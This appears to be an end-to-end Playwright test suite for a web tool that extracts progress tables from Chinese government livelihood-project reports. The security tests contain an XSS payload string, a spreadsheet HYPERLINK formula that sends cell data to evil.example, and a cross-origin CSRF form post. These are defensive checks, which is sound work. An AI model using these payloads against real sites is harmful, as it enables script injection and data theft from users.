"""The paste page end to end: uvicorn on a free port, Debian's headless Chromium driven by Playwright.

Without /usr/bin/chromium these tests fail (they do not skip), unless MINSHENG_NO_BROWSER=1.
"""
from __future__ import annotations

import io
import os
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
SEED_004 = SAMPLES / "txt" / "004_c24871eb355e82a1.txt"
DOCX_000 = SAMPLES / "docx" / "000_98d808fb349556f5.docx"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def chromium_path() -> str:
    path = os.environ.get("MINSHENG_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
    if not Path(path).exists():
        if os.environ.get("MINSHENG_NO_BROWSER") == "1":
            pytest.skip("MINSHENG_NO_BROWSER=1: browser tests switched off")
        pytest.fail("Chromium not found at /usr/bin/chromium: `apt-get install chromium` "
                    "(or set MINSHENG_NO_BROWSER=1 to skip the browser tests on purpose)")
    return path


@pytest.fixture(scope="module")
def server():
    import uvicorn

    from pipeline.web.app import create_app

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(create_app(), host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not srv.started:
        if time.monotonic() > deadline or not thread.is_alive():
            pytest.fail("uvicorn did not start")
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    srv.should_exit = True
    thread.join(timeout=10)


@pytest.fixture(scope="module")
def browser():
    exe = chromium_path()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=exe, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture
def page(browser, server):
    context = browser.new_context(viewport={"width": 1500, "height": 1000}, accept_downloads=True)
    pg = context.new_page()
    problems: list[str] = []
    pg.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
    pg.on("console", lambda m: problems.append(f"console.{m.type}: {m.text}") if m.type == "error" else None)
    pg.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    pg.goto(server + "/")
    pg.wait_for_selector("body[data-ready='1']")
    pg.problems = problems
    yield pg
    context.close()


def extract_text(pg, text: str) -> None:
    pg.fill("#paste", text)
    pg.click("#extract")
    pg.wait_for_selector("#status.done, #status.error, #status.warn")


def test_paste_seed_004_shows_table_and_rate_mismatch(page):
    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    assert "完成" in page.text_content("#status")
    assert page.text_content("#doc-title").startswith("关于2021年1-5月")
    assert "湘西自治州" in page.text_content("#meta") and "进展通报" in page.text_content("#meta")
    headers = page.locator("#projects thead th").all_text_contents()
    assert headers == ["名称", "指标", "牵头", "完成时限", "完成数", "完成率", "状态"]
    assert page.locator("#projects tr.project").count() >= 20

    row = page.locator("#projects tr.project", has_text="实施困难残疾人家庭无障碍改造680户")
    cells = row.locator("td").all_text_contents()
    assert "680户" in cells[1] and "州残联" in cells[2] and "22户" in cells[4] and "3.3%" in cells[5]
    assert "滞后" in cells[6]
    assert "worst-error" in row.get_attribute("class")
    # the flag sits right under its row, in plain Chinese with both numbers
    beside = page.locator("#projects tr.project:has-text('实施困难残疾人家庭无障碍改造680户') + tr.flag-row")
    text = beside.text_content()
    assert "错误" in text and "完成率对不上" in text and "3.24" in text and "3.3" in text
    # and it is listed among the document's flags, red
    listed = page.locator("#flags li.flag", has_text="完成率对不上")
    assert listed.count() == 1 and "sev-error" in listed.get_attribute("class")
    assert page.problems == []


def test_click_flag_highlights_its_evidence_line(page):
    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    assert page.locator("#source .ln.hl").count() == 0
    page.locator("#flags li.flag", has_text="完成率对不上").click()
    hl = page.locator("#source .ln.hl")
    assert hl.count() == 1
    assert hl.get_attribute("data-line") == "15"
    assert "完成年任务3.3%" in hl.text_content()
    page.wait_for_timeout(700)                           # smooth scrolling
    box, pane = hl.bounding_box(), page.locator("#source").bounding_box()
    assert pane["y"] <= box["y"] and box["y"] + box["height"] <= pane["y"] + pane["height"], (box, pane)

    page.locator("#projects tr.project", has_text="办理法律援助案件1800件").click()
    hl = page.locator("#source .ln.hl")
    assert hl.count() == 1 and hl.get_attribute("data-line") == "17"
    assert page.problems == []


def test_upload_docx(page):
    page.set_input_files("#file", str(DOCX_000))
    assert DOCX_000.name in page.text_content("#file-name")
    page.click("#extract")
    page.wait_for_selector("#status.done, #status.error")
    assert "完成" in page.text_content("#status"), page.text_content("#status")
    assert "docx" in page.text_content("#meta")
    assert page.locator("#projects tr.project").count() >= 5
    assert page.locator("#source .ln").count() > 10
    page.locator("#projects tr.project").first.click()
    assert page.locator("#source .ln.hl").count() >= 1
    assert page.problems == []


def test_bad_upload_says_so(page):
    page.set_input_files("#file", files=[{"name": "坏文件.pdf", "mimeType": "application/pdf",
                                          "buffer": b"%PDF-1.4\n not really"}])
    page.click("#extract")
    page.wait_for_selector("#status.error")
    assert "无法提取" in page.text_content("#status") and "坏文件.pdf" in page.text_content("#status")


XSS = (
    "关于2021年重点民生实事项目进展情况的通报<script>window.__pwned = 'script'</script>\n"
    "1、由州残联牵头组织实施的“<img src=x onerror=\"window.__pwned='img'\">无障碍改造680户”项目："
    "全州已完成改造22户，完成年任务3.3%。\n"
    "<svg onload=\"window.__pwned='svg'\"></svg><iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\n"
    "2、由州<b onmouseover=\"window.__pwned='b'\">民政局</b>牵头组织实施的“办理法律援助案件1800件”项目：完成年任务44%。\n"
)


def test_pasted_markup_is_shown_as_text_and_never_runs(page):
    extract_text(page, XSS)
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    result = page.locator("#result")
    for tag in ("script", "img", "svg", "iframe", "b"):
        assert result.locator(tag).count() == 0, tag
    assert "<script>window.__pwned = 'script'</script>" in page.text_content("#doc-title") + page.text_content("#source")
    assert "<img src=x onerror=" in page.text_content("#source")
    for el in page.locator("#projects tr.project td, #flags li").all():
        el.hover()                                       # mouse events on every rendered string
    page.locator("#projects tr.project").first.click()
    assert page.evaluate("window.__pwned") is None
    assert not [p for p in page.problems if "dialog" in p or "pageerror" in p]


def test_download_excel_and_csv(page, tmp_path):
    from openpyxl import load_workbook

    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    with page.expect_download() as info:
        page.click("#dl-xlsx")
    path = tmp_path / "out.xlsx"
    info.value.save_as(path)
    assert info.value.suggested_filename.endswith(".xlsx")
    wb = load_workbook(io.BytesIO(path.read_bytes()))
    assert wb.sheetnames == ["项目", "问题", "文件"]
    flags = list(wb["问题"].iter_rows(min_row=2, values_only=True))
    assert ("完成率对不上", "错误") in [r[1:3] for r in flags] and "RATE_MISMATCH" in [r[-1] for r in flags]
    ws = wb["项目"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref and ws.column_dimensions["C"].width >= 30
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)]
    power = [r for r in rows if "配电网" in r["项目"] and r["完成数"]]
    assert power and power[0]["完成数"] == "6498万元" and power[0]["完成金额(元)"] == 64980000
    estates = [r for r in rows if r["项目"] == "开工建设85个城镇老旧小区"]
    counted = [r for r in estates if r["目标"] == "85个"]
    assert counted and all("万元" not in (r["完成数"] or "") for r in counted)     # investment is not completion
    assert any(r["指标"] == "完成投资" and r["完成数"] == "473.975万元" for r in estates)
    assert {r["状态"] for r in rows} - {None, ""} <= {"已完成", "有序推进", "进度滞后", "进行中", "已取消"}

    with page.expect_download() as info:
        page.click("#dl-csv")
    info.value.save_as(tmp_path / "out.csv")
    assert "实施困难残疾人家庭无障碍改造680户" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert page.problems == []


def test_copy_markdown(page, browser):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    page.click("#copy-md")
    page.wait_for_selector("#status.done")
    assert "Markdown 已复制" in page.text_content("#status")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("### ") and "完成率对不上" in copied and "RATE_MISMATCH" in copied


# ---- issue 16: true statuses, safe cells, own origin, no silent all-clear, layout -------------------------------

def test_sample_button_shows_true_statuses(page):
    page.click("#sample")
    page.wait_for_selector("#status.done")
    assert "卫生室" in page.input_value("#paste")

    def status(name: str) -> str:
        return page.locator("#projects tr.project", has_text=name).locator("td.status").text_content()

    assert status("无障碍改造450户") == "进度滞后"
    assert status("村卫生室") == "有序推进"            # 35 of 80 built, 其余正在建设中: not done
    assert status("农村公路安防设施") == "已完成"        # the whole target reached
    assert "已完成" not in status("城镇新增就业")
    assert page.locator(".howto").is_visible() and "怎么看" in page.text_content(".howto")
    assert page.problems == []


def test_partial_project_after_done_word_is_not_done(page):
    extract_text(page, "关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
                       "1、由市残联牵头组织实施的“实施无障碍改造640户”项目：全市已完成改造21户，完成年任务3.28%。\n")
    assert page.locator("#projects tr.project td.status").text_content() == "进行中"


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def test_formula_in_a_name_stays_text_in_the_downloaded_excel(page, tmp_path):
    from openpyxl import load_workbook

    extract_text(page, "关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
                       f"1、由市残联牵头组织实施的“{FORMULA}实施无障碍改造640户”项目：全市已完成改造21户，完成年任务3.3%。\n"
                       f"{FORMULA}\n")
    with page.expect_download() as info:
        page.click("#dl-xlsx")
    info.value.save_as(tmp_path / "x.xlsx")
    wb = load_workbook(tmp_path / "x.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells, "the payload should reach the workbook"
    assert all(c.data_type == "s" for c in cells)
    with page.expect_download() as info:
        page.click("#dl-csv")
    info.value.save_as(tmp_path / "x.csv")
    assert "\n=" not in (tmp_path / "x.csv").read_text(encoding="utf-8-sig").replace(",=", "\n=")


def test_markdown_download(page, tmp_path):
    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    with page.expect_download() as info:
        page.click("#dl-md")
    assert info.value.suggested_filename.endswith(".md")
    info.value.save_as(tmp_path / "x.md")
    text = (tmp_path / "x.md").read_text(encoding="utf-8")
    assert text.startswith("### ") and "| 状态 |" in text and "完成率对不上" in text


def test_a_post_from_another_origin_is_refused(page, server):
    """A page elsewhere (a made-up site served by Playwright) submits a text/plain form to the API, as a CSRF
    would: the server refuses it with 403, and no extraction is run."""
    page.route("http://evil.example/**", lambda route: route.fulfill(
        status=200, content_type="text/html", body="<!doctype html><title>elsewhere</title><p>elsewhere</p>"))
    page.goto("http://evil.example/")
    with page.expect_response(lambda r: r.url.endswith("/api/extract")) as info:
        page.evaluate("""(url) => {
            const form = document.createElement("form");
            form.method = "POST"; form.action = url + "/api/extract"; form.enctype = "text/plain";
            const input = document.createElement("input");
            input.name = '{"text": "关于民生实事的通报", "x": "'; input.value = '"}';
            form.append(input); document.body.append(form); form.submit();
        }""", server)
    assert info.value.status == 403
    assert "拒绝跨站请求" in info.value.text()


def test_random_text_says_nothing_was_recognised(page):
    import random

    rng = random.Random(3)
    text = "\n".join("".join(rng.choice("的一是了我不在有这他中大来上国和到说们为道也abcxyz45789") for _ in range(50))
                     for _ in range(300))
    extract_text(page, text)
    assert "未识别出项目" in page.text_content("#status")
    assert page.locator("#unread").is_visible()
    assert "未识别出项目" in page.text_content("#unread") and "行含数字" in page.text_content("#unread")
    assert not page.locator("#no-flags").is_visible()


@pytest.mark.parametrize("width, height", [(1366, 768), (390, 844)], ids=["office-1366", "phone-390"])
def test_no_horizontal_overflow_and_status_in_view(browser, server, width, height, tmp_path):
    context = browser.new_context(viewport={"width": width, "height": height}, accept_downloads=True)
    pg = context.new_page()
    pg.goto(server + "/")
    pg.wait_for_selector("body[data-ready='1']")
    extract_text(pg, SEED_004.read_text(encoding="utf-8"))
    pg.screenshot(path=str(tmp_path / f"page-{width}.png"), full_page=True)
    assert pg.evaluate("document.scrollingElement.scrollWidth") <= width
    status = pg.locator("#projects tr.project", has_text="无障碍改造680户").locator("td.status")
    box = status.bounding_box()
    assert box and box["x"] >= 0 and box["x"] + box["width"] <= width, box
    wrap = pg.evaluate("(() => { const t = document.querySelector('.table-wrap'); return t.scrollWidth - t.clientWidth; })()")
    assert wrap <= 1                                     # the table fits: no column hidden behind a scroll bar
    # a tap on a flag keeps the page where it is and shows its source right there (beside, or under it)
    flag = pg.locator("#flags li.flag", has_text="完成率对不上")
    flag.scroll_into_view_if_needed()
    before = pg.evaluate("window.scrollY")
    flag.dispatch_event("click")
    pg.wait_for_timeout(600)
    assert abs(pg.evaluate("window.scrollY") - before) < 5
    if width < 1100:
        excerpt = flag.locator(".excerpt")
        assert excerpt.is_visible() and "完成年任务3.3%" in excerpt.text_content()
    else:
        hl = pg.locator("#source .ln.hl")
        assert hl.is_visible() and "完成年任务3.3%" in hl.text_content()
        hb = hl.bounding_box()
        assert 0 <= hb["y"] and hb["y"] + hb["height"] <= height
    context.close()


def test_pdf_upload_shows_each_item_number_once(page):
    page.set_input_files("#file", str(SAMPLES / "pdf" / "002_5ecf8857c5bfa18f.pdf"))
    page.click("#extract")
    page.wait_for_selector("#status.done, #status.error, #status.warn")
    names = page.locator("#projects tr.project td.c-name").all_text_contents()
    assert names and not [n for n in names if __import__("re").match(r"^\s*(\d+)\s*\1\s*[.、．]", n)], names[:5]


def test_money_as_written_and_investment_named_on_the_page(page):
    extract_text(page, SEED_004.read_text(encoding="utf-8"))
    estates = page.locator("#projects tr.project", has_text="开工建设85个城镇老旧小区").locator("td").all_text_contents()
    assert estates[4] == "投资 473.975万元"
    power = page.locator("#projects tr.project", has_text="配电网改造").locator("td").all_text_contents()
    assert power[4] == "6498万元"
    assert page.locator("#projects tr.project", has_text="中医药服务").locator("td.status").text_content() == "有序推进"
